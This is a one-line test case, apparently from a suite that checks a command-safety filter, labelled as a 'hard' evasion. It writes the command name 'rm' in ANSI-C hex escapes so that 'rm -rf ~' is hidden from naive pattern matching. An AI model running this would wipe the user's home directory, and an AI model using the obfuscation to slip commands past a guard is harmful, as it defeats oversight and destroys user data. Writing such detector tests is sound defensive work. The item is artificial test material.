# evasion: ANSI-C quoted command name
# grade: hard; does: rm-rf
$'\x72\x6d' -rf ~
